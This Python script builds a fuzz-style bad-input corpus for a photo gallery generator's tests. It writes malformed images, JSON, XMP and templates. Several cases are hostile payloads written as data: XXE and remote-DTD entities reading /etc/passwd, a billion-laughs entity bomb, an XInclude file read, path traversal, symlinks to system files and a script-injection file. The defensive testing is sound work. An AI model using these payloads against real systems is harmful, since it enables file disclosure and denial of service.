#!/usr/bin/env python3
"""Writes the bad-input corpus's sites: CASE/site/ for every case below.

Run from anywhere: python3 Tests/Fixtures/bad-input/make-corpus.py
Each CASE/expected.txt is written by hand (see README.md) and is never touched here.
Only the Python standard library is used; the output is the same on every run.
"""
import os
import shutil
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
CASES = {}


def case(name):
    def register(function):
        CASES[name] = function
        return function
    return register


# Images

def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def ihdr(width, height):
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))


def png(width, height):
    """A valid RGB PNG (header-only sizes above 64 px: the pixels do not matter here)."""
    rows = b"".join(b"\0" + b"\xc8\x78\x3c" * width for _ in range(height)) if width * height <= 4096 else b""
    return PNG_SIGNATURE + ihdr(width, height) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def segment(marker, body):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def sof(width, height):
    return segment(0xC0, struct.pack(">BHHB", 8, height, width, 3) + b"\x01\x11\x00\x02\x11\x00\x03\x11\x00")


JFIF = segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0")


# A quantisation table of ones, and DC and AC Huffman tables of one one-bit code each (category 0,
# end of block): every block is two zero bits, so zero bytes are a whole, flat image.
DQT = segment(0xDB, b"\0" + b"\x01" * 64)
DHT = segment(0xC4, b"\x00\x01" + b"\0" * 15 + b"\0" + b"\x10\x01" + b"\0" * 15 + b"\0")
SOS = segment(0xDA, b"\x03\x01\x00\x02\x00\x03\x00\x00\x3f\x00")


def jpeg(width, height, *segments):
    """A JPEG that decodes (a flat grey image): the decoder's headers and enough image data."""
    blocks = 3 * ((width + 7) // 8) * ((height + 7) // 8)
    data = b"\0" * ((2 * blocks + 7) // 8)
    return b"\xff\xd8" + b"".join(segments) + DQT + sof(width, height) + DHT + SOS + data + b"\xff\xd9"


def exif(tiff):
    return segment(0xE1, b"Exif\0\0" + tiff)


def box(kind, body):
    return struct.pack(">I", len(body) + 8) + kind + body


FTYP = box(b"ftyp", b"avif\0\0\0\0avifmif1")


def ispe(width, height):
    return box(b"ispe", b"\0\0\0\0" + struct.pack(">II", width, height))


# Writing

def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data.encode("utf-8") if isinstance(data, str) else data)


def good(site, name, title=None, alt=None):
    """A valid photo with a title and alt text, so it adds no diagnostic of its own."""
    stem = name.rsplit("/", 1)[-1].rsplit(".", 1)[0]
    write(f"{site}/{name}", png(3, 2))
    write(f"{site}/{name}.json", '{"title": %s, "alt": %s}\n' % (json_string(title or f"Good {stem}"), json_string(alt or f"A small orange card called {stem}")))


def json_string(text):
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def titled(site, name):
    write(f"{site}/{name}.json", '{"title": "%s", "alt": "An orange card"}\n' % name.rsplit(".", 1)[0])


@case("image-truncated")
def image_truncated(site):
    files = {
        "empty.png": b"",
        "png-signature-only.png": PNG_SIGNATURE,
        "png-cut-in-ihdr.png": (PNG_SIGNATURE + ihdr(30, 20))[:20],
        "jpeg-cut-before-frame.jpg": (b"\xff\xd8" + JFIF + sof(30, 20))[:26],
        "jpeg-soi-only.jpg": b"\xff\xd8\xff",
        "gif-cut-in-screen.gif": b"GIF89a\x1e",
        "webp-cut-after-chunk.webp": b"RIFF\x24\0\0\0WEBPVP8 ",
        "avif-ftyp-only.avif": FTYP,
    }
    for name, data in files.items():
        write(f"{site}/{name}", data)
    good(site, "whole.png")


@case("image-lying-size")
def image_lying_size(site):
    files = {
        "png-zero-wide.png": png(0, 20),
        "png-4294967295-wide.png": png(4294967295, 1),
        "png-200000-wide.png": png(200000, 10),
        "jpeg-zero-high.jpg": jpeg(30, 0),
        "gif-zero.gif": b"GIF89a\0\0\0\0\0\0\0" + b";",
        "avif-zero.avif": FTYP + box(b"meta", b"\0\0\0\0" + box(b"iprp", box(b"ipco", ispe(0, 0)))),
    }
    for name, data in files.items():
        write(f"{site}/{name}", data)
    good(site, "whole.png")


@case("image-lying-structure")
def image_lying_structure(site):
    deep = b""
    for _ in range(500):
        deep = box(b"meta", b"\0\0\0\0" + deep)
    files = {
        "jpeg-segment-length-0.jpg": b"\xff\xd8\xff\xe0\x00\x00" + b"\0" * 40,
        "jpeg-segment-length-1.jpg": b"\xff\xd8\xff\xe0\x00\x01" + b"\0" * 40,
        "jpeg-segment-longer-than-file.jpg": b"\xff\xd8\xff\xe1\xff\xff" + b"Exif\0\0" + b"\0" * 10,
        "jpeg-no-frame.jpg": b"\xff\xd8" + JFIF + b"\xff\xd9",
        "png-idat-first.png": PNG_SIGNATURE + chunk(b"IDAT", b"") + chunk(b"IEND", b""),
        "png-short-ihdr.png": PNG_SIGNATURE + chunk(b"IHDR", b"\0\0\0\x1e") + chunk(b"IEND", b""),
        "webp-unknown-chunk.webp": b"RIFF\x20\0\0\0WEBPXXXX\xff\xff\xff\xff" + b"\0" * 16,
        "avif-box-smaller-than-header.avif": FTYP + b"\0\0\0\x04meta" + b"\0" * 20,
        "avif-box-of-16-exabytes.avif": FTYP + b"\0\0\0\x01meta" + b"\xff" * 8 + b"\0" * 20,
        "avif-500-boxes-deep.avif": FTYP + deep,
        "mp4-not-avif.avif": box(b"ftyp", b"isom\0\0\0\0isommp41") + b"\0" * 20,
    }
    for name, data in files.items():
        write(f"{site}/{name}", data)
    good(site, "whole.png")


@case("image-lying-exif")
def image_lying_exif(site):
    big_endian = b"MM\0\x2a" + struct.pack(">I", 8)
    orientation_6 = struct.pack(">HHIHH", 0x0112, 3, 1, 6, 0)
    files = {
        # The IFD's "next IFD" offset points back at itself.
        "ifd-loop.jpg": jpeg(30, 20, exif(big_endian + struct.pack(">H", 1) + orientation_6 + struct.pack(">I", 8))),
        # 65,535 entries announced, one present.
        "ifd-count-65535.jpg": jpeg(30, 20, exif(big_endian + struct.pack(">H", 65535) + orientation_6)),
        # The first IFD is 4 GB away.
        "ifd-offset-4gb.jpg": jpeg(30, 20, exif(b"MM\0\x2a" + struct.pack(">I", 0xFFFFFFF0))),
        # A description of 4 GB, at an offset of 4 GB.
        "string-4gb.jpg": jpeg(30, 20, exif(big_endian + struct.pack(">H", 1) + struct.pack(">HHII", 0x010E, 2, 0xFFFFFFFF, 0xFFFFFFF0) + struct.pack(">I", 0))),
        # Not TIFF at all after the Exif marker.
        "not-tiff.jpg": jpeg(30, 20, exif(b"XX\0\x2a\0\0\0\x08")),
    }
    for name, data in files.items():
        write(f"{site}/{name}", data)
        titled(site, name)


@case("image-wrong-extension")
def image_wrong_extension(site):
    write(f"{site}/png-named-jpg.jpg", png(30, 20))
    titled(site, "png-named-jpg.jpg")
    write(f"{site}/text-named-png.png", "I am a text file, not a picture.\n")
    write(f"{site}/html-named-gif.gif", "<html><script>alert(1)</script></html>\n")


@case("image-broken-metadata")
def image_broken_metadata(site):
    def app13(iim, size_adjustment=0):
        resource = b"8BIM\x04\x04\0\0" + struct.pack(">I", len(iim) + size_adjustment) + iim
        return segment(0xED, b"Photoshop 3.0\0" + resource)

    def dataset(number, data, length=None):
        return b"\x1c\x02" + bytes([number]) + struct.pack(">H", len(data) if length is None else length) + data

    def xmp(properties, attributes=""):
        return ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
                '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" '
                'xmlns:xmpNote="http://ns.adobe.com/xmp/note/" ' + attributes + '>' + properties +
                '</rdf:Description></rdf:RDF></x:xmpmeta>').encode()

    def title(text):
        return '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">' + text + '</rdf:li></rdf:Alt></dc:title>'

    extended = xmp('<dc:description><rdf:Alt><rdf:li xml:lang="x-default">' + "long " * 300 +
                   '</rdf:li></rdf:Alt></dc:description>')
    guid = __import__("hashlib").md5(extended).hexdigest().upper().encode()
    standard = xmp(title("Has an Extended XMP"), 'xmpNote:HasExtendedXMP="' + guid.decode() + '"')

    def part(offset, size):
        return segment(0xE1, b"http://ns.adobe.com/xmp/extension/\0" + guid + struct.pack(">II", len(extended), offset) +
                       extended[offset:offset + size])

    utf16_title = b"\x00\xd8A\x00\x00\x00"  # a lone high surrogate, then "A"
    little_endian = b"II\x2a\0" + struct.pack("<I", 8)
    files = {
        # The APP13 segment ends inside the Photoshop resource's header.
        "truncated-app13.jpg": jpeg(30, 20, segment(0xED, b"Photoshop 3.0\08BIM\x04\x04")),
        # The IIM resource says it is 500 bytes longer than its segment.
        "resource-too-long.jpg": jpeg(30, 20, app13(dataset(5, b"Resource too long"), 500)),
        # The caption's dataset claims 4,000 bytes; the title before it is kept.
        "dataset-too-long.jpg": jpeg(30, 20, app13(dataset(5, b"Kept title") + dataset(120, b"Caption", 4000))),
        # XPTitle is not UTF-16.
        "bad-utf16.jpg": jpeg(30, 20, exif(little_endian + struct.pack("<H", 1) +
                                            struct.pack("<HHII", 0x9C9B, 1, len(utf16_title), 26) +
                                            struct.pack("<I", 0) + utf16_title)),
        # The second of three Extended XMP parts is missing.
        "extended-xmp-part-missing.jpg": jpeg(30, 20, segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + standard),
                                              part(0, 600), part(1200, 600)),
    }
    for name, data in files.items():
        write(f"{site}/{name}", data)
        # Alt text from a sidecar, so the only findings are about the broken metadata.
        write(f"{site}/{name}.json", '{"alt": "A test image"}\n')


# JSON

@case("json-wrong-types")
def json_wrong_types(site):
    write(f"{site}/fields.png", png(3, 2))
    write(f"{site}/fields.png.json", """{
  "title": 3,
  "alt": "A card with every field wrong",
  "caption": ["a", "list"],
  "date": 20240601,
  "tags": {"a": 1},
  "order": "first",
  "hidden": "yes",
  "rating": 2.5,
  "renditions": "fields@800w.png",
  "make": false,
  "focalLength": "23mm",
  "aperture": -2.8,
  "exposure": true,
  "iso": -100
}
""")
    write(f"{site}/orientation.png", png(3, 2))
    write(f"{site}/orientation.png.json", '{"title": "Orientation", "alt": "A card", "orientation": "6"}\n')
    write(f"{site}/not-an-object.png", png(3, 2))
    write(f"{site}/not-an-object.png.json", '"just a string"\n')
    write(f"{site}/remote.json", '{"title": "Remote", "alt": "A card", "src": "https://example.com/a.jpg", "width": "wide", "height": null}\n')
    write(f"{site}/exiftool.png", png(3, 2))
    write(f"{site}/exiftool.json", '[{"SourceFile": "exiftool.png", "Title": {"x": 1}, "AltTextAccessibility": "A card", '
          '"ImageWidth": "wide", "Keywords": [1, [2]], "ISO": "fast", "FNumber": "f/2.8"}]\n')
    good(site, "whole.png")


@case("json-syntax")
def json_syntax(site):
    sidecars = {
        "trailing-comma": '{"title": "A",}',
        "unclosed-object": '{"title": "A"',
        "unclosed-string": '{"title": "A}',
        "comment": '{\n  // a comment\n  "title": "A"\n}',
        "single-quotes": "{'title': 'A'}",
        "leading-zero": '{"order": 007}',
        "control-character": '{"title": "A\tB"}',
        "invalid-escape": '{"title": "A\\qB"}',
        "lone-surrogate": '{"title": "\\ud800"}',
        "two-values": '{"title": "A"} {"title": "B"}',
        "empty": "",
    }
    for name, text in sidecars.items():
        write(f"{site}/{name}.png", png(3, 2))
        write(f"{site}/{name}.png.json", text)
    good(site, "whole.png")


@case("json-deep-nesting")
def json_deep_nesting(site):
    write(f"{site}/nested-300.png", png(3, 2))
    write(f"{site}/nested-300.png.json", '{"title": "A", "tags": ' + "[" * 300 + "]" * 300 + "}")
    write(f"{site}/nested-10000-unclosed.png", png(3, 2))
    write(f"{site}/nested-10000-unclosed.png.json", "[" * 10000)
    write(f"{site}/objects-300.png", png(3, 2))
    write(f"{site}/objects-300.png.json", '{"a": ' * 300 + "1" + "}" * 300)
    write(f"{site}/album.json", '{"title": ' + "[" * 1000)
    good(site, "whole.png")


@case("json-huge-numbers")
def json_huge_numbers(site):
    values = {
        "width-1e400": '"width": 1e400',
        "width-5000-digits": '"width": 1' + "0" * 5000,
        "width-2-pow-53-plus-1": '"width": 9007199254740993',
        "height-1e308": '"height": 1e308',
        "rating-1e300": '"rating": 1e300',
        "iso-1e20": '"iso": 1e20',
        "exposure-1e-320": '"exposure": 1e-320',
        "tiny-aperture": '"aperture": 5e-324',
    }
    for name, member in values.items():
        write(f"{site}/{name}.png", png(3, 2))
        write(f"{site}/{name}.png.json", '{"title": "%s", "alt": "An orange card", %s}\n' % (name, member))
    # Accepted, and shown on the photo page in full: once a crash.
    write(f"{site}/focal-length-1e308.png", png(3, 2))
    write(f"{site}/focal-length-1e308.png.json", '{"title": "Focal length 1e308", "alt": "An orange card", "focalLength": 1e308, "order": -1e308}\n')


@case("json-nan")
def json_nan(site):
    values = {
        "nan": '"width": NaN',
        "infinity": '"aperture": Infinity',
        "minus-infinity": '"order": -Infinity',
        "nan-string": '"width": "NaN"',
        "nan-exposure": '"exposure": "NaN"',
        "nan-date": '"date": "NaN"',
    }
    for name, member in values.items():
        write(f"{site}/{name}.png", png(3, 2))
        write(f"{site}/{name}.png.json", '{"title": "%s", "alt": "An orange card", %s}\n' % (name, member))
    good(site, "whole.png")


@case("json-invalid-utf8")
def json_invalid_utf8(site):
    texts = {
        "bad-byte": b'{"title": "Caf\xe9", "alt": "An orange card"}',
        "overlong-slash": b'{"title": "\xc0\xaf", "alt": "An orange card"}',
        "surrogate-bytes": b'{"title": "\xed\xa0\x80", "alt": "An orange card"}',
        "cut-in-character": b'{"alt": "An orange card", "title": "\xe2\x82',
        "bad-key": b'{"t\xfftle": "A", "alt": "An orange card"}',
        "utf16": '{"title": "A", "alt": "An orange card"}'.encode("utf-16"),
    }
    for name, data in texts.items():
        write(f"{site}/{name}.png", png(3, 2))
        write(f"{site}/{name}.png.json", data)
    good(site, "whole.png")


BOM = b"\xef\xbb\xbf"


@case("json-bom")
def json_bom(site):
    write(f"{site}/ashlar.json", BOM + b'{"title": "Byte order marks", "titel": "x"}\n')
    write(f"{site}/trip/album.json", BOM + b'{"title": "Trip", "hiden": true}\n')
    write(f"{site}/trip/a.png", png(3, 2))
    write(f"{site}/trip/a.png.json", BOM + b'{"title": "A", "alt": "An orange card", "widht": 3}\n')
    write(f"{site}/trip/b.png", png(3, 2))
    write(f"{site}/trip/b.png.json", BOM + b'[{"SourceFile": "b.png", "Title": "B", "AltTextAccessibility": "An orange card", "Orientation": "sideways"}]\n')
    write(f"{site}/trip/c.png", png(3, 2))
    write(f"{site}/trip/c.png.json", BOM + BOM + b'{"title": "C", "alt": "An orange card"}\n')


@case("json-crlf")
def json_crlf(site):
    write(f"{site}/ashlar.json", b'{\r\n  "title": "Line ends",\r\n  "pageSiz": 10\r\n}\r\n')
    write(f"{site}/trip/album.json", b'{\r\n  "title": "Trip",\r\n  "sort": "size"\r\n}\r\n')
    write(f"{site}/trip/a.png", png(3, 2))
    write(f"{site}/trip/a.png.json", b'{\r\n  "title": "A",\r\n  "alt": "An orange card",\r\n  "rating": 9,\r\n  "widht": 3\r\n}\r\n')
    write(f"{site}/trip/b.png", png(3, 2))
    write(f"{site}/trip/b.png.json", b'{\r\n  "title": "B",\r\n  "alt": "An orange card",\r\n  "caption": "two\r\nlines"\r\n}\r\n')


@case("json-same-words")
def json_same_words(site):
    """A repeated key, an unknown key, a wrong type and a number past 2^53 in every JSON file."""
    write(f"{site}/ashlar.json", """{
  "title": "Same words",
  "title": "Same words everywhere",
  "layout": {"gap": 8, "gapp": 4}
}
""")
    write(f"{site}/templates/theme.json", """{
  "page": {"maxWidth": 2560, "maxWidth": 9007199254740993,
    "padding": {"min": 16, "viewportPercent": 3, "max": 40, "mx": 40}}
}
""")
    write(f"{site}/trip/album.json", """{
  "title": "Trip",
  "hidden": "no",
  "hidden": false,
  "srot": "date",
  "cover": 9007199254740993
}
""")
    write(f"{site}/trip/a.png", png(3, 2))
    write(f"{site}/trip/a.png.json", """{
  "title": "A", "alt": "An orange card",
  "rating": 3, "rating": "5",
  "captoin": "x",
  "width": 9007199254740993
}
""")
    write(f"{site}/trip/b.png", png(3, 2))
    write(f"{site}/trip/b.png.json", """[{"SourceFile": "b.png", "Title": "B", "AltTextAccessibility": "An orange card",
  "Make": "A", "Make": "B", "ImageWidth": 9007199254740993}]
""")


@case("config-wrong-types")
def config_wrong_types(site):
    write(f"{site}/ashlar.json", """{
  "title": ["Gallery"],
  "language": 7,
  "pageSize": -1,
  "images": "move",
  "sort": false,
  "layout": {
    "gap": "wide",
    "breakpoints": [{"minWidth": "0", "columns": 0}, "three"]
  }
}
""")
    good(site, "whole.png")


@case("config-bad-urls")
def config_bad_urls(site):
    write(f"{site}/ashlar.json", """{
  "baseURL": "https://user:secret@example.com/photos/",
  "images": "reference",
  "mediaBaseURL": "https://cdn.example.com/a\\tb\\u2028c/"
}
""")
    good(site, "whole.png")


@case("photo-long-text")
def photo_long_text(site):
    write(f"{site}/long.png", png(3, 2))
    write(f"{site}/long.png.json", '{"title": "' + "T" * 2100 + '", "alt": "An orange card", "caption": "' + "c" * 16100 + '"}\n')


@case("config-huge-numbers")
def config_huge_numbers(site):
    write(f"{site}/ashlar.json", """{
  "pageSize": 1e20,
  "layout": {
    "gap": 1e308,
    "breakpoints": [{"minWidth": 1e300, "columns": 1e9}]
  }
}
""")
    good(site, "whole.png")


@case("config-deep-nesting")
def config_deep_nesting(site):
    write(f"{site}/ashlar.json", '{"layout": ' + '{"gap": ' * 1000 + "1" + "}" * 1001)
    good(site, "whole.png")


@case("config-invalid-utf8")
def config_invalid_utf8(site):
    write(f"{site}/ashlar.json", b'{\n  "title": "Gal\xffery"\n}\n')
    good(site, "whole.png")


# XMP

RDF_OPEN = ('<x:xmpmeta xmlns:x="adobe:ns:meta/">\n'
            ' <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n')
RDF_CLOSE = " </rdf:RDF>\n</x:xmpmeta>\n"
DESCRIPTION = '  <rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">\n'
TITLE_ENTITY = "   <dc:title><rdf:Alt><rdf:li xml:lang=\"x-default\">&xxe;</rdf:li></rdf:Alt></dc:title>\n"


def xmp_photo(site, name, xmp):
    write(f"{site}/{name}.png", png(3, 2))
    write(f"{site}/{name}.png.json", '{"alt": "An orange card"}\n')
    write(f"{site}/{name}.png.xmp", xmp)


@case("xmp-dtd-and-entities")
def xmp_dtd(site):
    xmp_photo(site, "doctype", '<?xml version="1.0"?>\n<!DOCTYPE x:xmpmeta>\n' + RDF_OPEN + RDF_CLOSE)
    xmp_photo(site, "external-entity", '<?xml version="1.0"?>\n<!DOCTYPE x [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
              + RDF_OPEN + DESCRIPTION + TITLE_ENTITY + "  </rdf:Description>\n" + RDF_CLOSE)
    xmp_photo(site, "network-entity", '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>\n'
              + RDF_OPEN + RDF_CLOSE)
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{n} "' + f"&lol{n - 1 if n > 1 else ''};" * 10 + '">' for n in range(1, 10)]
    xmp_photo(site, "billion-laughs", '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n ' + "\n ".join(lol) + "\n]>\n"
              + RDF_OPEN + DESCRIPTION + "   <dc:title><rdf:Alt><rdf:li xml:lang=\"x-default\">&lol9;</rdf:li></rdf:Alt></dc:title>\n"
              + "  </rdf:Description>\n" + RDF_CLOSE)
    xmp_photo(site, "lowercase-doctype", '<?xml version="1.0"?>\n<!doctype x>\n' + RDF_OPEN + RDF_CLOSE)
    xmp_photo(site, "undeclared-entity", RDF_OPEN + DESCRIPTION + TITLE_ENTITY + "  </rdf:Description>\n" + RDF_CLOSE)
    xmp_photo(site, "xinclude", RDF_OPEN + DESCRIPTION.replace(">\n", ' xmlns:xi="http://www.w3.org/2001/XInclude">\n')
              + '   <dc:title><rdf:Alt><rdf:li xml:lang="x-default">XInclude</rdf:li></rdf:Alt></dc:title>\n'
              + '   <xi:include href="file:///etc/passwd" parse="text"/>\n  </rdf:Description>\n' + RDF_CLOSE)


@case("xmp-malformed")
def xmp_malformed(site):
    xmp_photo(site, "unclosed", RDF_OPEN + DESCRIPTION + "   <dc:title>\n" + RDF_CLOSE)
    xmp_photo(site, "mismatched", RDF_OPEN + DESCRIPTION + "   <dc:title></dc:subject>\n  </rdf:Description>\n" + RDF_CLOSE)
    xmp_photo(site, "nested-200", RDF_OPEN + DESCRIPTION + "<a>" * 200 + "</a>" * 200 + "\n  </rdf:Description>\n" + RDF_CLOSE)
    xmp_photo(site, "utf16", (RDF_OPEN + RDF_CLOSE).encode("utf-16"))
    xmp_photo(site, "latin1", '<?xml version="1.0" encoding="ISO-8859-1"?>\n' + RDF_OPEN + RDF_CLOSE)
    xmp_photo(site, "bad-byte", (RDF_OPEN + DESCRIPTION + "   <dc:title>Caf").encode() + b"\xe9</dc:title>\n"
              + ("  </rdf:Description>\n" + RDF_CLOSE).encode())
    xmp_photo(site, "bom", BOM + b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><x:a></x:b></x:xmpmeta>\n')
    xmp_photo(site, "not-rdf", '<x:xmpmeta xmlns:x="adobe:ns:meta/"><x:other/></x:xmpmeta>\n')
    xmp_photo(site, "crlf-bad-values", (RDF_OPEN + '  <rdf:Description rdf:about=""\r\n    xmlns:tiff="http://ns.adobe.com/tiff/1.0/"\r\n'
              '    tiff:Orientation="sideways"\r\n    tiff:ImageWidth="-3"/>\r\n' + RDF_CLOSE).replace("\n", "\r\n").replace("\r\r", "\r"))
    xmp_photo(site, "empty", "")


# Templates

@case("template-syntax")
def template_syntax(site):
    write(f"{site}/templates/tile.mustache", "<li>{{#title}}\n{{title}}\n</li>\n")
    write(f"{site}/templates/pagination.mustache", "<nav>{{#pages}}\n{{/page}}\n</nav>\n")
    write(f"{site}/templates/breadcrumbs.mustache", "<nav>{{title\n</nav>\n")
    write(f"{site}/templates/album-tile.mustache", "<li>{{/title}}</li>\n")
    write(f"{site}/templates/photo.mustache", "{{<base}}{{$content}}{{=<% %>}}{{/content}}{{/base}}\n")
    good(site, "whole.png")


@case("template-recursive-partial")
def template_recursive_partial(site):
    write(f"{site}/templates/tile.mustache", "<li>{{title}}{{> tile}}</li>\n")
    good(site, "whole.png")


@case("template-mutual-recursion")
def template_mutual_recursion(site):
    write(f"{site}/templates/tile.mustache", "<li>{{> ping}}</li>\n")
    write(f"{site}/templates/ping.mustache", "{{#title}}{{> pong}}{{/title}}")
    write(f"{site}/templates/pong.mustache", "{{> ping}}")
    good(site, "whole.png")


@case("template-recursive-parent")
def template_recursive_parent(site):
    write(f"{site}/templates/album.mustache", "{{<album}}{{$content}}x{{/content}}{{/album}}\n")
    good(site, "whole.png")


@case("template-encoding")
def template_encoding(site):
    write(f"{site}/templates/tile.mustache", BOM + b'<li class="tile">{{#title}}\r\n{{title}}\r\n{{/title}}\r\n</li>\r\n')
    write(f"{site}/templates/breadcrumbs.mustache", b"<nav>\n  <!-- Caf\xe9 --> {{missing\n</nav>\n")
    write(f"{site}/templates/gallery.mustache", "{{#hasTiles}}<ol>{{#tiles}}{{> tile}}{{> tile-extra}}{{/tiles}}</ol>{{/hasTiles}}\n")
    good(site, "whole.png")


# Names and paths

NAMES = [
    "my photo.png",
    "café ☕.png",
    'say "cheese".png',
    "it's.png",
    "#1?.png",
    "100% real.png",
    "x%20y.png",
    "a&b<c>.png",
    "back\\slash.png",
    "semi;colon,comma+plus=eq.png",
    "Île de Ré & co/été.png",
    "100% \"quoted\" 'album'/p?q#r.png",
    "a#b?c/d e.png",
]


@case("file-names")
def file_names(site):
    write(f"{site}/ashlar.json", '{"title": "Names <&> \\"quotes\\"", "baseURL": "https://example.com/photos/"}\n')
    for index, name in enumerate(NAMES):
        write(f"{site}/{name}", png(30, 20))
        stem = name.rsplit("/", 1)[-1].rsplit(".", 1)[0]
        title = f"{stem} <b>&amp;</b> \"{index}\""
        write(f"{site}/{name}.json", '{"title": %s, "alt": %s, "date": "2024-06-%02dT12:00:00Z"}\n'
              % (json_string(title), json_string(f"Card '{stem}' & co"), index + 1))
    # Renditions: a space and a comma in srcset, and one named in the sidecar.
    write(f"{site}/my photo@10w.png", png(10, 7))
    write(f"{site}/semi;colon,comma+plus=eq@10w.png", png(10, 7))
    write(f"{site}/small copies/album.json", '{"hidden": true}\n')
    write(f"{site}/small copies/it's, #1.png", png(5, 3))
    write(f"{site}/it's.png.json", '{"title": "it\'s", "alt": "Card it\'s & co", "date": "2024-06-04T12:00:00Z", '
          '"renditions": [{"src": "small copies/it\'s, #1.png", "width": 5}]}\n')
    write(f"{site}/Île de Ré & co/album.json", '{"title": "Île <de> Ré", "cover": "été.png"}\n')


@case("links-outside")
def links_outside(site):
    good(site, "whole.png")
    os.makedirs(f"{site}/templates/assets", exist_ok=True)
    for link, target in [("passwd.png", "/etc/passwd"), ("etc", "/etc"), ("templates/assets/secret.txt", "/etc/passwd"),
                         ("templates/tile.mustache", "/etc/passwd")]:
        os.symlink(target, f"{site}/{link}")
    write(f"{site}/escape.json", '{"title": "Escape", "alt": "An orange card", "src": "../../../../../../etc/passwd"}\n')
    write(f"{site}/absolute.json", '{"title": "Absolute", "alt": "An orange card", "src": "/etc/passwd"}\n')
    write(f"{site}/file-url.json", '{"title": "File URL", "alt": "An orange card", "src": "file:///etc/passwd", "width": 3, "height": 2}\n')
    write(f"{site}/rendition.png", png(3, 2))
    write(f"{site}/rendition.png.json", '{"title": "Rendition", "alt": "An orange card", "renditions": [{"src": "../outside@2w.png", "width": 2}]}\n')
    write(f"{site}/trip/album.json", '{"cover": "../whole.png"}\n')


@case("xml-forbidden-characters")
def xml_forbidden_characters(site):
    # U+FFFE, U+FFFF and C0 controls, escaped and raw (JSON allows both), reach feed.xml and sitemap.xml.
    write(f"{site}/ashlar.json", '{"title": "Site \\uFFFE\\u0001", "author": "A\\u0002da", "baseURL": "https://example.com/"}\n')
    write(f"{site}/odd.png", png(3, 2))
    write(f"{site}/odd.png.json", '{"title": "Odd \\uFFFE and \\u0001", "alt": "An orange card", '
          '"caption": "raw \uffff and \ufffe", "date": "2024-06-01T10:00:00Z"}\n')
    write(f"{site}/trip\uffff/p.png", png(3, 2))
    write(f"{site}/trip\uffff/p.png.json", '{"title": "In a \\uFFFF folder", "alt": "An orange card", "date": "2024-06-02T10:00:00Z"}\n')


@case("hidden-files")
def hidden_files(site):
    good(site, "trip/whole.png")
    good(site, "trip/deeper/inner.png")
    for name in [".backup/config.png", "trip/.thumbs/small.png", "trip/deeper/.cache/c.png", "trip/.dot.png"]:
        write(f"{site}/{name}", png(3, 2))
    for name in ["templates/assets/.secret/token.txt", "templates/.private/notes.txt", "templates/assets/.env",
                 "templates/assets/css/.deep/key.txt"]:
        write(f"{site}/{name}", "token-do-not-publish\n")
    write(f"{site}/templates/assets/css/site.css", "body { color: #222 }\n")


@case("output-links")
def output_links(site):
    # Committed as shipped-site/ (no _site/ is ever committed); the tests move it to _site/.
    good(site, "photos/keep.png")
    os.makedirs(f"{site}/shipped-site", exist_ok=True)
    os.symlink("../photos", f"{site}/shipped-site/linked")
    write(f"{site}/shipped-site/.ashlar-manifest.json",
          '{"ashlar": 1, "inputs": "", "files": {"linked/keep.png": "h:0", "linked/keep.png.json": "h:0", '
          '"linked/missing/index.html": "h:0"}, "albums": {}, "diagnostics": []}\n')


def main():
    for name, make in sorted(CASES.items()):
        site = os.path.join(HERE, name, "site")
        shutil.rmtree(site, ignore_errors=True)
        make(site)


if __name__ == "__main__":
    main()
